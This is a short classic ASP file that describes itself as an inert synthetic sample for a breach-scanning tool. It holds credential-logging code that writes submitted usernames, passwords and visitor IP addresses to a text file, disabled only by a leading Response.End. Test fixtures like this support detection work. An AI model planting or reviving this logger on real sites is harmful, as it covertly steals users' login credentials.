<%
' synthetic test sample for breachscan: posted credentials appended to a text file. Inert: Response.End first.
Response.End
Dim u, p, f
u = request("user") : p = request("pass")
Set fs = Server.CreateObject("Scripting.FileSystemObject")
Set f = fs.OpenTextFile(Server.MapPath("sample.txt"), 8, True)
f.writeline u & " " & p & " " & Request.ServerVariables("REMOTE_ADDR")
f.close
%>
